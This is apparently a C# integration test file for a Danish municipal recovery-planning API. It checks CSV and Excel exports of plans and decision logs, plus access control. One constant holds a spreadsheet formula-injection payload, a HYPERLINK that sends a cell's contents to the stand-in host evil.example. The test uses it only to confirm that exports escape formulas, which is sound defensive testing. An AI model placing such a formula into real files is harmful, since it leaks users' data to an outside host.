using System.Net;
using System.Text.Json;
using ClosedXML.Excel;
using Recovery.Grains.ImplementationGroups;
using Recovery.Grains.Shared;
using Recovery.Testing;

namespace Recovery.Api.Tests.Exports;

/// <summary>Plans and decision logs downloaded as a signed-in person would, then opened as a spreadsheet would.</summary>
public sealed class ExportTests(ApiServer api) : IClassFixture<ApiServer>
{
    private const string Injection = "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"Klik her\")";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    /// <summary>Files carry Danish calendar dates, which differ from UTC's for an hour or two around midnight.</summary>
    private static DateTime DanishToday => TimeZoneInfo.ConvertTimeBySystemTimeZoneId(DateTime.UtcNow, "Europe/Copenhagen").Date;

    private static string Today => DanishToday.ToString("dd-MM-yyyy");

    private HttpClient Mette => api.Client("herning-tovholder");

    [Fact]
    public async Task The_development_plan_as_csv_has_danish_headers_statuses_dates_and_names_and_the_formula_stays_text()
    {
        await AddPlanItem(Injection, "Æbler, øl & år; \"citat\"\nanden linje");

        var (response, file) = await Download("/exports/657/styregruppe/udviklingsplan.csv");

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        var rows = Csv.Parse(file);
        Assert.Equal(["Nr.", "Forudsætning", "Titel", "Beskrivelse", "Ansvarlig", "Frist", "Status"], rows[0]);
        // The xlsx test adds an item with the same title; the description tells this one apart.
        var row = Assert.Single(rows, r => r[2] == "'" + Injection && r[3].StartsWith("Æbler"));
        Assert.Equal(["3", "Tydelig og vedholdende ledelse", "'" + Injection, "Æbler, øl & år; \"citat\"\nanden linje", "Mette Lund", "01-03-2027", "I gang"], row);
        Assert.All(rows.Skip(1), r => Assert.Contains(r[6], new[] { "Planlagt", "I gang", "Færdig", "Sat på pause" }));
        // The seeded plan comes first in prerequisite order.
        Assert.Equal(rows.Skip(1).Select(r => int.Parse(r[0])).Order(), rows.Skip(1).Select(r => int.Parse(r[0])));
    }

    [Fact]
    public async Task The_development_plan_as_xlsx_has_a_bold_header_real_dates_and_the_formula_as_plain_text()
    {
        await AddPlanItem(Injection, "Rødgrød med fløde");

        var (response, file) = await Download("/exports/657/styregruppe/udviklingsplan.xlsx");

        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        using var workbook = new XLWorkbook(new MemoryStream(file));
        var sheet = Assert.Single(workbook.Worksheets);
        Assert.Equal("Udviklingsplan", sheet.Name);
        Assert.Equal(["Nr.", "Forudsætning", "Titel", "Beskrivelse", "Ansvarlig", "Frist", "Status"],
            sheet.Row(1).CellsUsed().Select(c => c.GetString()));
        Assert.True(sheet.Cell("A1").Style.Font.Bold);
        Assert.True(sheet.AutoFilter.IsEnabled);
        var row = sheet.RowsUsed().Single(r => r.Cell(4).GetString() == "Rødgrød med fløde");
        Assert.False(row.Cell(3).HasFormula);
        Assert.Equal(Injection, row.Cell(3).GetString());
        Assert.Equal(XLDataType.Number, row.Cell(1).DataType);
        Assert.Equal(XLDataType.DateTime, row.Cell(6).DataType);
        Assert.Equal(new DateTime(2027, 3, 1), row.Cell(6).GetDateTime());
        Assert.Equal("dd-mm-yyyy", row.Cell(6).Style.DateFormat.Format);
        Assert.Equal("I gang", row.Cell(7).GetString());
    }

    [Fact]
    public async Task The_decision_log_has_the_date_the_decision_and_who_recorded_it_in_both_formats()
    {
        var title = $"Åbent hus i Ørnens have {Guid.NewGuid():N}";
        var recorded = await Mette.GraphQLAsync(Documents.RecordDecision,
            new { input = new { municipalityCode = "657", title, rationale = "+45 borgere spurgte" } }, ct: Ct);
        Assert.Empty(recorded.Errors);

        var (_, csv) = await Download("/exports/657/styregruppe/beslutninger.csv");
        var (_, xlsx) = await Download("/exports/657/styregruppe/beslutninger.xlsx");

        var rows = Csv.Parse(csv);
        Assert.Equal(["Dato", "Beslutning", "Begrundelse", "Registreret af"], rows[0]);
        Assert.Equal([Today, title, "'+45 borgere spurgte", "Mette Lund"], Assert.Single(rows, r => r[1] == title));
        using var workbook = new XLWorkbook(new MemoryStream(xlsx));
        var row = workbook.Worksheet("Beslutninger").RowsUsed().Single(r => r.Cell(2).GetString() == title);
        Assert.Equal(DanishToday, row.Cell(1).GetDateTime());
        Assert.Equal("+45 borgere spurgte", row.Cell(3).GetString());
        Assert.False(row.Cell(3).HasFormula);
    }

    [Fact]
    public async Task An_implementation_plan_lists_principles_the_deciding_decision_and_the_latest_follow_up()
    {
        var slug = await ImplementationGroupWithPlan();

        var (response, csv) = await Download($"/exports/657/implementeringsgrupper/{slug}/plan.csv");
        var (_, xlsx) = await Download($"/exports/657/implementeringsgrupper/{slug}/plan.xlsx");

        Assert.Contains($"filename*=UTF-8''Herning-{slug}-implementeringsplan-", response.Content.Headers.ContentDisposition?.ToString());
        var rows = Csv.Parse(csv);
        Assert.Equal(["Aktivitet", "Beskrivelse", "Principper", "Ansvarlig", "Start", "Frist", "Status", "Beslutning", "Seneste opfølgning"], rows[0]);
        Assert.Equal(3, rows.Count);
        Assert.Equal(
            ["Recovery-café hver torsdag", "Åben for alle", "1. Tag udgangspunkt i borgerens håb, ønsker og drømme; 3. Inddrag borgerens netværk og almene fællesskaber",
             "Mette Lund", "01-02-2027", "30-06-2027", "I gang", "", $"{Today}: Tredje gang: 14 deltagere"],
            rows[1]);
        Assert.Equal(["'@Peer-vejledning", "", "7. Følg op, så støtten altid er den rette", "", "", "31-12-2027", "Planlagt", "Vi prøver peer-vejledning", ""], rows[2]);
        using var workbook = new XLWorkbook(new MemoryStream(xlsx));
        var sheet = workbook.Worksheet("Implementeringsplan");
        Assert.Equal(new DateTime(2027, 2, 1), sheet.Cell("E2").GetDateTime());
        Assert.Equal("@Peer-vejledning", sheet.Cell("A3").GetString());
        Assert.False(sheet.Cell("A3").HasFormula);
    }

    [Fact]
    public async Task An_implementation_groups_decision_log_downloads_in_both_formats()
    {
        var slug = await ImplementationGroupWithPlan();

        var (_, csv) = await Download($"/exports/657/implementeringsgrupper/{slug}/beslutninger.csv");
        var (_, xlsx) = await Download($"/exports/657/implementeringsgrupper/{slug}/beslutninger.xlsx");

        Assert.Equal([["Dato", "Beslutning", "Begrundelse", "Registreret af"], [Today, "Vi prøver peer-vejledning", "Efter dialogmødet", "Mette Lund"]], Csv.Parse(csv));
        using var workbook = new XLWorkbook(new MemoryStream(xlsx));
        Assert.Equal("Vi prøver peer-vejledning", workbook.Worksheet(1).Cell("B2").GetString());
    }

    [Fact]
    public async Task File_names_carry_the_municipality_and_the_date_and_nothing_is_cached()
    {
        var (response, _) = await Download("/exports/657/styregruppe/udviklingsplan.xlsx");

        var disposition = response.Content.Headers.ContentDisposition!;
        Assert.Equal("attachment", disposition.DispositionType);
        Assert.Equal($"Herning-styregruppe-udviklingsplan-{DanishToday:yyyy-MM-dd}.xlsx", disposition.FileName?.Trim('"'));
        Assert.Equal($"Herning-styregruppe-udviklingsplan-{DanishToday:yyyy-MM-dd}.xlsx", disposition.FileNameStar);
        Assert.True(response.Headers.CacheControl?.NoStore);
    }

    [Theory]
    [InlineData("/exports/657/styregruppe/udviklingsplan.csv")]
    [InlineData("/exports/657/styregruppe/beslutninger.xlsx")]
    [InlineData("/exports/657/implementeringsgrupper/findes-ikke/plan.csv")]
    public async Task Without_a_token_an_export_is_401(string path)
    {
        var response = await api.Anonymous.GetAsync(path, Ct);

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.Equal("Bearer", response.Headers.WwwAuthenticate.Single().Scheme);
        await AssertProblem(response, "UNAUTHENTICATED");
    }

    [Theory]
    [InlineData("roskilde-leder", "/exports/657/styregruppe/udviklingsplan.csv")]
    [InlineData("roskilde-leder", "/exports/657/styregruppe/beslutninger.xlsx")]
    [InlineData("roskilde-leder", "/exports/657/implementeringsgrupper/findes-ikke/plan.csv")]
    [InlineData("national", "/exports/657/styregruppe/udviklingsplan.xlsx")]
    [InlineData("national", "/exports/657/styregruppe/beslutninger.csv")]
    [InlineData("national", "/exports/265/implementeringsgrupper/findes-ikke/beslutninger.csv")]
    public async Task Another_municipalitys_person_and_the_national_coordinator_get_403_in_danish(string persona, string path)
    {
        var response = await api.Client(persona).GetAsync(path, Ct);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var title = await AssertProblem(response, "FORBIDDEN");
        Assert.Contains("kommunens egne folk", title);
    }

    [Theory]
    [InlineData("/exports/999/styregruppe/udviklingsplan.csv")]
    [InlineData("/exports/657/implementeringsgrupper/findes-ikke/plan.csv")]
    [InlineData("/exports/657/implementeringsgrupper/findes-ikke/beslutninger.xlsx")]
    [InlineData("/exports/657/implementeringsgrupper/UGYLDIG/plan.csv")]
    [InlineData("/exports/657/styregruppe/udviklingsplan.pdf")]
    public async Task An_unknown_municipality_group_or_format_is_404(string path)
    {
        var response = await Mette.GetAsync(path, Ct);

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        await AssertProblem(response, "NOT_FOUND");
    }

    private async Task<(HttpResponseMessage Response, byte[] File)> Download(string path)
    {
        var response = await Mette.GetAsync(path, Ct);
        var file = await response.Content.ReadAsByteArrayAsync(Ct);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {System.Text.Encoding.UTF8.GetString(file)}");
        return (response, file);
    }

    private async Task AddPlanItem(string title, string description)
    {
        var response = await Mette.GraphQLAsync(Documents.AddPlanItem, new
        {
            input = new
            {
                municipalityCode = "657", prerequisite = 3, title, description, ownerId = "p-657-mette", due = "2027-03-01", status = "IN_PROGRESS",
            },
        }, ct: Ct);
        Assert.True(response.Errors.Count == 0, response.ToString());
    }

    /// <summary>Two activities: one tied to two principles with dates and follow-ups, one created by a decision.</summary>
    private async Task<string> ImplementationGroupWithPlan()
    {
        var slug = ImplementationGroupSetup.NewSlug("cafe");
        var group = api.Server.Group(ImplementationGroupSetup.HerningTovholder, "657", slug);
        await group.Establish(new EstablishImplementationGroup("Recovery-caféen", "Fællesskaber uden visitation"));
        await group.AddMember(new AddGroupMember("p-657-mette", "Mette Lund", Role.Tovholder));
        await group.AddActivity(new AddActivity("cafe", new ActivityFields(
            "Recovery-café hver torsdag", "Åben for alle", [3, 1], "p-657-mette", new DateOnly(2027, 2, 1), new DateOnly(2027, 6, 30), PlanItemStatus.InProgress)));
        await group.FollowUp(new FollowUpActivity("cafe", "f1", "Første gang: 4 deltagere"));
        await group.FollowUp(new FollowUpActivity("cafe", "f2", "Tredje gang: 14 deltagere"));
        await group.RecordDecision(new RecordGroupDecision("d1", "Vi prøver peer-vejledning", "Efter dialogmødet",
            [new DecidedAction("peer", "@Peer-vejledning", [7], null, new DateOnly(2027, 12, 31))]));
        return slug;
    }

    private static async Task<string> AssertProblem(HttpResponseMessage response, string code)
    {
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var body = JsonDocument.Parse(await response.Content.ReadAsStringAsync(Ct)).RootElement;
        Assert.Equal(code, body.GetProperty("code").GetString());
        return body.GetProperty("title").GetString()!;
    }
}
